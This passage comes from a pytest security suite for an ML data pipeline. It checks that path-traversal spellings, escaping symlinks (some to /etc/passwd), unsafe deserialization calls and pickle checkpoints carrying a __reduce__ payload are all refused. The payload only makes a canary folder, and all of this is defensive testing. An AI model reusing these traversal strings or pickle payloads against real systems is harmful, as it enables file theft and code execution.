    "sub\\..\\..\\outside\\secret.png": ESCAPING,
    "sub/./../../outside/secret.png": ESCAPING,
    "sub/x/../../../outside/secret.png": ESCAPING,
    "./../outside/secret.png": ESCAPING,
    "ok.png/../../outside/secret.png": ESCAPING,
    "../d/ok.png": ESCAPING,  # out and back in: refused all the same
    "..": ESCAPING,
    "../" * 1_000 + "outside/secret.png": ESCAPING,
    "%2e%2e/outside/secret.png": MISSING,  # no URL decoding: a folder literally named %2e%2e
    "%2e%2e%2foutside%2fsecret.png": MISSING,
    "..%2f..%2foutside%2fsecret.png": MISSING,
    "..%5coutside%5csecret.png": MISSING,
    "....//outside//secret.png": MISSING,
    "．．/outside/secret.png": MISSING,  # fullwidth dots are not dots
    "\u2025/outside/secret.png": MISSING,
    " ../outside/secret.png": MISSING,
    "~/secret.png": MISSING,
    "$HOME/secret.png": MISSING,
    "file:///etc/passwd": MISSING,
    "sub/..": MISSING,  # the root folder itself
    "ok.png\x00../../outside/secret.png": "invalid manifest row (no NUL byte)",
    "../outside/secret.png\x00.png": "invalid manifest row (no NUL byte)",
    "\x00": "invalid manifest row (no NUL byte)",
    "a/" * 2_500 + "ok.png": "invalid manifest row (path length 1-4096)",
}


def _escape_root(tmp_path: Path) -> tuple[Path, Path]:
    """(root with ok.png and sub/, the outside folder holding the secret)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.png").write_bytes(SECRET_PNG)
    root = tmp_path / "d"
    (root / "sub").mkdir(parents=True)
    (root / "ok.png").write_bytes(_png(_digit(1)))
    return root, outside


def _run_rows(root: Path, outside: Path, rows: list[str], **source):
    pd.DataFrame({"image": rows}).to_csv(root / "manifest.csv", index=False)
    with _watch() as events:
        result = _ingest_outcome(SourceConfig(uri=str(root), **source))
    _assert_never_opened(events, outside)
    _assert_nothing_ran(events)
    assert not isinstance(result, MlpipeError), result
    return result


@pytest.mark.parametrize("path", list(MANIFEST_PATHS), ids=lambda p: repr(p[:40]))
def test_manifest_path_spellings_out_of_the_root_are_refused(state, tmp_path, path):
    root, outside = _escape_root(tmp_path)
    result = _run_rows(root, outside, ["ok.png", path])
    assert result.report["kept"] == 1
    assert result.report["quarantine_reasons"] == {MANIFEST_PATHS[path]: 1}


@pytest.mark.parametrize("path", list(MANIFEST_PATHS), ids=lambda p: repr(p[:40]))
def test_the_same_spellings_on_a_remote_filesystem_are_refused(state, monkeypatch, path):
    """On a non-local filesystem (fsspec's memory://, as s3:// would be) no realpath check backs
    the path check up: `..` normalization alone keeps reads inside the root."""
    import uuid

    import fsspec

    from mlpipe.ingest import Source

    mem, base = fsspec.filesystem("memory"), f"/hostile-{uuid.uuid4().hex}"
    mem.pipe(f"{base}/outside/secret.png", SECRET_PNG)
    mem.pipe(f"{base}/d/ok.png", _png(_digit(1)))
    mem.pipe(f"{base}/d/sub/keep.txt", b"")
    mem.pipe(f"{base}/d/manifest.csv", pd.DataFrame({"image": ["ok.png", path]}).to_csv(index=False).encode())
    reads, original = [], Source.read
    monkeypatch.setattr(Source, "read", lambda self, full: reads.append(full) or original(self, full))
    try:
        result = _ingest_outcome(SourceConfig(uri=f"memory://{base}/d"))
    finally:
        mem.rm(base, recursive=True)
    assert reads and not [r for r in reads if "/outside/" in r or not r.startswith(f"{base}/d/")]
    assert not isinstance(result, MlpipeError), result
    assert result.report["kept"] == 1
    assert result.report["quarantine_reasons"] == {MANIFEST_PATHS[path]: 1}


def _link(root: Path, outside: Path, kind: str) -> tuple[str, str]:
    """Build one symlink arrangement in `root`; return (the manifest path, the expected reason)."""
    secret = outside / "secret.png"
    if kind == "relative file link":
        os.symlink("../outside/secret.png", root / "rel.png")
        return "rel.png", ESCAPING
    if kind == "link to /etc/passwd":
        os.symlink("/etc/passwd", root / "passwd.png")
        return "passwd.png", ESCAPING
    if kind == "chain in, then out":
        os.symlink(secret, root / "sub" / "hop.png")
        os.symlink("sub/hop.png", root / "first.png")
        return "first.png", ESCAPING
    if kind == "nested folder link":
        os.symlink(outside, root / "sub" / "deeper")
        return "sub/deeper/secret.png", ESCAPING
    if kind == "folder link chain":
        os.symlink(outside, root / "sub" / "out")
        os.symlink("sub/out", root / "via")
        return "via/secret.png", ESCAPING
    if kind == "folder link to /":
        os.symlink("/", root / "slash")
        return "slash/etc/passwd", ESCAPING
    if kind == "link to the root's parent":
        os.symlink("..", root / "up")
        return "up/outside/secret.png", ESCAPING
    if kind == "file link loop":
        os.symlink("b.png", root / "a.png")
        os.symlink("a.png", root / "b.png")
        return "a.png", MISSING
    if kind == "self link":
        os.symlink("self.png", root / "self.png")
        return "self.png", MISSING
    if kind == "folder link loop":
        os.symlink("loop2", root / "loop1")
        os.symlink("loop1", root / "loop2")
        return "loop1/ok.png", MISSING
    if kind == "dangling link":
        os.symlink(outside / "gone.png", root / "dangling.png")
        return "dangling.png", MISSING
    if kind == "link to a folder, used as a file":
        os.symlink("sub", root / "folder.png")
        return "folder.png", MISSING
    raise AssertionError(kind)


LINKS = ["relative file link", "link to /etc/passwd", "chain in, then out", "nested folder link", "folder link chain",
         "folder link to /", "link to the root's parent", "file link loop", "self link", "folder link loop",
         "dangling link", "link to a folder, used as a file"]  # fmt: skip


@pytest.mark.parametrize("kind", LINKS)
def test_manifest_symlinks_out_of_the_root_are_refused(state, tmp_path, kind):
    root, outside = _escape_root(tmp_path)
    path, reason = _link(root, outside, kind)
    result = _run_rows(root, outside, ["ok.png", path])
    assert result.report["kept"] == 1
    assert result.report["quarantine_reasons"] == {reason: 1}


def test_a_folder_link_that_stays_inside_the_root_is_followed(state, tmp_path):
    """The control: a link is refused for where it points, not for being a link."""
    root, outside = _escape_root(tmp_path)
    os.symlink("..", root / "sub" / "back")  # sub/back -> the root itself
    os.symlink("ok.png", root / "alias.png")
    result = _run_rows(root, outside, ["ok.png", "sub/back/ok.png", "alias.png", "sub/back/sub/back/ok.png"])
    assert result.report["kept"] == 1 and result.report["duplicates"] == 3 and result.report["quarantined"] == 0


def _tree(tmp_path: Path) -> tuple[Path, Path]:
    """An ImageFolder root (cat/, dog/: two images each) and the outside folder (cls/secret.png)."""
    outside = tmp_path / "outside"
    (outside / "cls").mkdir(parents=True)
    (outside / "cls" / "secret.png").write_bytes(SECRET_PNG)
    (outside / "secret.png").write_bytes(SECRET_PNG)
    root = tmp_path / "tree"
    for k, label in enumerate(("cat", "dog")):
        (root / label).mkdir(parents=True)
        for i in range(2):
            (root / label / f"{i}.png").write_bytes(_png(_digit(10 * k + i)))
    return root, outside


def _tree_case(root: Path, outside: Path, kind: str) -> dict[str, int]:
    """Build one hostile arrangement in the tree; return the quarantine reasons it must cause."""
    if kind == "symlinked class folder":
        os.symlink(outside / "cls", root / "evil")
        return {ESCAPING: 1}
    if kind == "symlinked folder inside a class":
        os.symlink(outside, root / "cat" / "more")
        return {ESCAPING: 1}
    if kind == "symlinked image":
        os.symlink(outside / "secret.png", root / "cat" / "link.png")
        return {ESCAPING: 1}
    if kind == "relative symlinked image":
        os.symlink("../../outside/secret.png", root / "dog" / "rel.png")
        return {ESCAPING: 1}
    if kind == "folder loop":
        os.symlink("..", root / "dog" / "loop")  # dog/loop -> the root: never walked round and round
        return {MISSING: 1}
    if kind == "folder link loop":  # neither a folder nor an image: passed over like any other file
        os.symlink("l2", root / "cat" / "l1")
        os.symlink("l1", root / "cat" / "l2")
        return {}
    if kind == "file link loop":
        os.symlink("b.png", root / "cat" / "a.png")
        os.symlink("a.png", root / "cat" / "b.png")
        return {MISSING: 2}
    if kind == "dangling link":
        os.symlink("nowhere.png", root / "cat" / "dangling.png")
        return {MISSING: 1}
    if kind == "backslash traversal in a file name":
        (root / "cat" / "..\\..\\outside\\secret.png").write_bytes(_png(_digit(99)))
        return {ESCAPING: 1}
    if kind == "symlinked image at the top level":
        os.symlink(outside / "secret.png", root / "top.png")
        return {"invalid manifest row (in a class folder)": 1}
    raise AssertionError(kind)


TREE_CASES = ["symlinked class folder", "symlinked folder inside a class", "symlinked image", "relative symlinked image",
              "folder loop", "folder link loop", "file link loop", "dangling link", "backslash traversal in a file name",
              "symlinked image at the top level"]  # fmt: skip


@pytest.mark.parametrize("kind", TREE_CASES)
def test_imagefolder_escapes_and_loops_are_quarantined_with_a_reason(state, tmp_path, kind):
    root, outside = _tree(tmp_path)
    reasons = _tree_case(root, outside, kind)
    start = time.perf_counter()
    with _watch() as events:
        result = _ingest_outcome(SourceConfig(uri=str(root), layout="imagefolder"))
    assert time.perf_counter() - start < 30
    _assert_never_opened(events, outside)
    _assert_nothing_ran(events)
    assert not isinstance(result, MlpipeError), result
    assert result.report["kept"] == 4, "the four real images"
    assert result.report["quarantine_reasons"] == reasons


# ===================================================================================================
# 4. Untrusted files: nothing unpickles, YAML loads safely, checkpoints load weights only
# ===================================================================================================

SCANNED = ("mlpipe", "tasks", "flows", "deployments")
_PICKLERS = {"pickle", "_pickle", "cPickle", "dill", "cloudpickle", "joblib", "shelve", "marshal", "jsonpickle"}
_YAML_UNSAFE = {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load", "full_load_all",
                "Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader",
                "UnsafeConstructor", "FullConstructor", "Constructor"}  # fmt: skip


class _UnsafeLoads(ast.NodeVisitor):
    """Finds deserialization that can run code: resolves `import x as y` and `from x import y`
    aliases, then checks every call and every `yaml.*` reference."""

    def __init__(self):
        self.names: dict[str, str] = {}
        self.found: list[tuple[int, str]] = []

    def _qualified(self, node) -> str | None:
        if isinstance(node, ast.Name):
            return self.names.get(node.id, node.id)
        if isinstance(node, ast.Attribute):
            base = self._qualified(node.value)
            return f"{base}.{node.attr}" if base else None
        if isinstance(node, ast.Call):  # torch.jit.load(...)(...) etc.: the call's own target
            return self._qualified(node.func)
        return None

    def visit_Import(self, node):
        for a in node.names:
            self.names[(a.asname or a.name).split(".")[0]] = a.asname and a.name or a.name.split(".")[0]
            if a.name.split(".")[0] in _PICKLERS - {"pickle", "_pickle", "marshal"}:
                self.found.append((node.lineno, f"import {a.name}"))

    def visit_ImportFrom(self, node):
        for a in node.names:
            self.names[a.asname or a.name] = f"{node.module}.{a.name}"
            if (node.module or "").split(".")[0] in _PICKLERS - {"pickle", "_pickle", "marshal"}:
                self.found.append((node.lineno, f"from {node.module} import {a.name}"))
        self.generic_visit(node)

    def visit_Attribute(self, node):
        name = self._qualified(node)
        if name and name.startswith("yaml.") and name.split(".")[1] in _YAML_UNSAFE:
            self.found.append((node.lineno, name))
        self.generic_visit(node)

    def visit_Name(self, node):
        name = self.names.get(node.id, "")
        if name.startswith("yaml.") and name.split(".")[1] in _YAML_UNSAFE:
            self.found.append((node.lineno, name))

    def visit_Call(self, node):
        name = self._qualified(node.func) or ""
        keywords = {k.arg: k.value for k in node.keywords}
        last = name.rsplit(".", 1)[-1]
        root = name.split(".")[0]
        if name in ("torch.load", "torch.serialization.load"):
            flag = keywords.get("weights_only")
            if not (isinstance(flag, ast.Constant) and flag.value is True):
                self.found.append((node.lineno, f"{name} without weights_only=True"))
        elif self._runs_code(name, root, last):
            self.found.append((node.lineno, name))
        elif name in ("numpy.load", "np.load"):
            flag = keywords.get("allow_pickle")
            if flag is not None and not (isinstance(flag, ast.Constant) and flag.value is False):
                self.found.append((node.lineno, f"{name} with allow_pickle"))
        self.generic_visit(node)


    @staticmethod
    def _runs_code(name: str, root: str, last: str) -> bool:
        return (
            name.startswith("torch.jit.load")
            or name == "torch.package.PackageImporter"
            or (root in _PICKLERS and ("load" in last or last in ("Unpickler", "open")))
            or last == "read_pickle"
            or name.endswith(("pytorch.load_model", "sklearn.load_model", "pyfunc.load_model"))
        )


def _scan(source: str) -> list[tuple[int, str]]:
    finder = _UnsafeLoads()
    finder.visit(ast.parse(source))
    return finder.found


def test_no_code_deserializes_unsafely():
    files = [p for folder in SCANNED for p in sorted((REPO / folder).rglob("*.py"))]
    assert len(files) > 30 and any(p.name == "model.py" for p in files)
    found = [f"{p.relative_to(REPO)}:{line}: {what}" for p in files for line, what in _scan(p.read_text())]
    assert not found, "unsafe deserialization:\n" + "\n".join(found)
    loads = sum(p.read_text().count("torch.load(") for p in files)
    assert loads >= 3, "the scan should see the checkpoint loads (did they move?)"


UNSAFE_SNIPPETS = [
    "import torch\ntorch.load(p)",
    "import torch\ntorch.load(p, weights_only=False)",
    "import torch\ntorch.load(p, map_location='cpu', weights_only=flag)",
    "import torch as T\nT.load(p)",
    "from torch import load\nload(p)",
    "from torch import load as tl\ntl(p, weights_only=False)",
    "import torch\ntorch.jit.load(p)",
    "import torch\nm = torch.jit.load(p)(x)",
    "import yaml\nyaml.load(s)",
    "import yaml\nyaml.load(s, Loader=yaml.SafeLoader)",
    "import yaml\nyaml.unsafe_load(s)",
    "import yaml\nyaml.full_load(s)",
    "import yaml\nyaml.load_all(s)",
    "import yaml\nx = yaml.Loader",
    "from yaml import UnsafeLoader\nyaml.load(s, UnsafeLoader)",
    "from yaml import load\nload(s)",
    "import pickle\npickle.load(f)",
    "import pickle\npickle.loads(b)",
    "import pickle as pk\npk.Unpickler(f).load()",
    "from pickle import loads\nloads(b)",
    "import _pickle\n_pickle.loads(b)",
    "import cPickle",
    "import dill\ndill.loads(b)",
    "import joblib\njoblib.load(p)",
    "import cloudpickle",
    "import pandas as pd\npd.read_pickle(p)",
    "import numpy as np\nnp.load(p, allow_pickle=True)",
    "import numpy\nnumpy.load(p, allow_pickle=ok)",
    "import mlflow\nmlflow.pytorch.load_model(uri)",
    "import shelve\nshelve.open(p)",
    "import marshal\nmarshal.loads(b)",
]
SAFE_SNIPPETS = [
    "import torch\ntorch.load(p, map_location='cpu', weights_only=True)",
    "import torch\ntorch.save(obj, p)",
    "import yaml\nyaml.safe_load(s)\nyaml.safe_dump(d)\nyaml.YAMLError",
    "import numpy as np\nnp.load(p)\nnp.load(p, mmap_mode='r')\nnp.load(p, allow_pickle=False)",
    "import pickle\npickle.dumps(x)\npickle.UnpicklingError",
    "import json\njson.loads(s)",
    "import pandas as pd\npd.read_parquet(p)\npd.read_csv(p)",
]


@pytest.mark.parametrize("snippet", UNSAFE_SNIPPETS)
def test_the_scan_catches_each_unsafe_load(snippet):
    assert _scan(snippet), f"the scan missed: {snippet!r}"


@pytest.mark.parametrize("snippet", SAFE_SNIPPETS)
def test_the_scan_leaves_safe_code_alone(snippet):
    assert _scan(snippet) == []


class _Payload:
    """Unpickling this creates a folder: proof that code ran."""

    def __init__(self, canary: Path):
        self.canary = str(canary)

    def __reduce__(self):
        return (os.mkdir, (self.canary,))


def _evil_checkpoint(path: Path, canary: Path, form: str) -> Path:
    import torch

    if form == "pickle":  # a bare pickle, as an old-style .pth
        path.write_bytes(pickle.dumps({"model_state": {"w": _Payload(canary)}}, protocol=2))
    else:  # torch.save's zip archive with the payload inside data.pkl
        torch.save({"model": "small_cnn", "in_channels": 1, "num_classes": 2, "model_state": _Payload(canary),
                    "mean": torch.zeros(1), "std": torch.ones(1)}, path)  # fmt: skip
    return path


def _load_at(site: str, path: Path, tmp_path: Path):
    """Each place the pipeline reads a checkpoint it did not just write itself."""
    from mlpipe.train.model import build_model

    if site == "train.pretrained":  # the user's file, named in the config
        config = load_config(None, [f"train.pretrained={path}", "ingest.image_size=16"])  # a decided size
        return build_model(config.train.model, 1, 2, config.ingest.image_size, config.train.pretrained)
    if site == "champion checkpoint":  # downloaded from the registry; evaluate loads it like this (deep or baseline)
        from mlpipe.evaluate import load_model

        return load_model(path)
    if site == "resume checkpoint":  # a trial folder's last.pt after a restart
        from mlpipe.train.worker import choose_resume_checkpoint

        last = tmp_path / "trial" / "last.pt"
        last.parent.mkdir()
        os.replace(path, last)
        chosen = choose_resume_checkpoint(last, "trial-000")
        assert chosen is None and (last.parent / "last.pt.corrupt").exists(), "a payload was taken for a checkpoint"
        return None
    raise AssertionError(site)


@pytest.mark.parametrize("form", ["pickle", "torch.save"])
@pytest.mark.parametrize("site", ["train.pretrained", "champion checkpoint", "resume checkpoint"])
def test_checkpoints_holding_code_are_refused_without_running_it(tmp_path, capsys, site, form):
    canary = tmp_path / "CANARY_pickle"
    path = _evil_checkpoint(tmp_path / "evil.pt", canary, form)
    refused = False
    with _watch() as events:
        try:
            _load_at(site, path, tmp_path)
            refused = site == "resume checkpoint"  # refused by setting the file aside (asserted there)
        except (pickle.UnpicklingError, MlpipeError) as err:
            refused = "mkdir" in str(err) or isinstance(err, MlpipeError)  # named as the global it refused
    capsys.readouterr()
    assert not canary.exists(), "the pickle payload ran"
    assert refused
    _assert_nothing_ran(events)


@pytest.mark.parametrize("name", ["manifest.csv", "manifest.pkl", "manifest.pickle", "m.parquet", "m.jsonl", "m.npy"])
def test_a_pickle_given_as_the_manifest_never_unpickles(state, tmp_path, name):
    canary = tmp_path / "CANARY_manifest"
    root = tmp_path / "d"
    root.mkdir()
    (root / "0.png").write_bytes(_png(_digit(0)))
    (root / name).write_bytes(pickle.dumps(pd.DataFrame({"image": ["0.png"], "x": [_Payload(canary)]})))
    (root / "1.png").write_bytes(pickle.dumps(_Payload(canary)))  # and a pickle posing as an image
    pd.DataFrame({"image": ["0.png", "1.png"]}).to_csv(root / "ok.csv", index=False)
    with _watch() as events:
        outcome = _ingest_outcome(SourceConfig(uri=str(root), manifest=name))
        images = _ingest_outcome(SourceConfig(uri=str(root), manifest="ok.csv"))
    _assert_nothing_ran(events)
    assert not canary.exists()
    assert isinstance(outcome, MlpipeError), "a pickle was read as a manifest"
    assert images.report["kept"] == 1 and images.report["quarantine_reasons"] == {"not an image": 1}
